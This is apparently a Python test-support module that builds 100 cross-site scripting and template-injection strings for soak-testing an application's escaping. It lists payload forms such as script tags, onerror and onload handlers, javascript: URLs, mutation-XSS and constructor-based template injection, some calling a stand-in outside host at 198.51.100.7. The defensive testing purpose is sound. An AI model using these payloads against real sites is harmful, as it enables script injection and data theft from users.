"""Strings that try to become markup or script, each with a mark that shows where it ran."""

from itertools import product

from tests.support.soak import share

#: What would run it: a flag that a test reads, a dialog, a request to another host.
_DOES = ("window.pwned=1", "alert(1)", "fetch('http://198.51.100.7/')", "import('http://x.test/')")
_FORMS = (
    "<script>{0}</script>",
    "</script><script>{0}</script>",
    "<img src=x onerror={0}>",
    '"><img src=x onerror={0}>',
    "'><svg onload={0}>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>",
    "<a href=javascript:{0} autofocus onfocus={0}>x</a>",
    "<math><mtext><style><img src onerror={0}></style></mtext></math>",
    "<object data=javascript:{0}></object>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<link rel=stylesheet href=http://198.51.100.7/ onload={0}>",
    "<base href=http://198.51.100.7/><script src=x>{0}</script>",
    "<style>@import 'http://198.51.100.7/{0}';</style>",
    "javascript:{0}",
    "${{{0}}}",
    "{{{{constructor.constructor('{0}')()}}}}",
    '\\";{0};//',
    "<!--><script>{0}</script-->",
    "<img src=http://198.51.100.7/{0}.png>",
    "\uff1cscript\uff1e{0}\uff1c/script\uff1e",
    "\u202e<script>{0}</script>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'></noscript>",
    "<textarea></textarea><script>{0}</script>",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "__proto__ <script>{0}</script>",
)


def markup_strings() -> list[str]:
    """100 of them, all different."""
    return [form.format(does) for form, does in product(_FORMS, _DOES)]


def some_markup_strings() -> list[str]:
    """Each form once, with what it does in turns; in ``make soak`` each with all."""
    whole = enumerate(markup_strings())
    return [one for at, one in whole if share() or at % 4 == at // 4 % 4]
